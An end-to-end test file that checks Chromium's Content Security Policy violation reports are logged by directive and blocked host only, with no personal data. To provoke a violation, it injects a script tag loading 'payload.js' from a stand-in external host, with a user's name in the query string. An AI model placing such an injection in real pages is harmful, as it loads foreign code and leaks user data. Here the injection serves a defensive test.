import { openBrowser } from '@tulia/test-kit/browser';
import { newCertificate, startTlsFront } from '@tulia/test-kit/tls-front';
import { cloudFixture } from '../support/journey-fixture.ts';
import { functionLogs } from '../support/local-aws.ts';
import { until } from '../support/until.ts';

const site = cloudFixture();

/** The violations in the log of the engagement function. */
async function violations(): Promise<readonly Record<string, unknown>[]> {
	const lines = JSON.parse(await functionLogs(site.cloud)) as readonly { readonly line: string }[];
	return lines
		.filter(({ line }) => line.includes('POLICY_VIOLATION') || line.includes('PolicyViolations'))
		.map(({ line }) => JSON.parse(line.slice(line.indexOf('{'))) as Record<string, unknown>);
}

test('Chromium reports a policy violation, which is counted by directive and host only', async () => {
	// Browsers send queued reports to TLS addresses only.
	const front = await startTlsFront(site.cloud.origin, { certificate: await newCertificate() });
	const browser = await openBrowser({ trustedKey: front.key, now: site.cloud.now });
	try {
		const page = await (await browser.newContext()).newPage();
		await page.goto(`${front.origin}/services?name=Wanjiru`);
		await page.evaluate(() => {
			const script = document.createElement('script');
			script.src = 'https://elsewhere.example/payload.js?of=Wanjiru';
			document.body.append(script);
			document.body.insertAdjacentHTML('beforeend', '<p style="color: red">Wanjiru</p>');
		});
		const written = await until(violations, (lines) => lines.length >= 4);
		const expected = [
			{ directive: 'script-src-elem', blockedHost: 'elsewhere.example' },
			{ directive: 'style-src-attr', blockedHost: 'inline' },
		];
		for (const violation of expected) {
			expect(written).toContainEqual(
				expect.objectContaining({ message: 'POLICY_VIOLATION', route: '/services', ...violation }),
			);
			expect(written).toContainEqual(expect.objectContaining({ PolicyViolations: 1, ...violation }));
		}
		expect(JSON.stringify(written)).not.toMatch(/Wanjiru|payload|HeadlessChrome|10\.|127\.0/);
	} finally {
		await browser.close();
		front.close();
	}
});
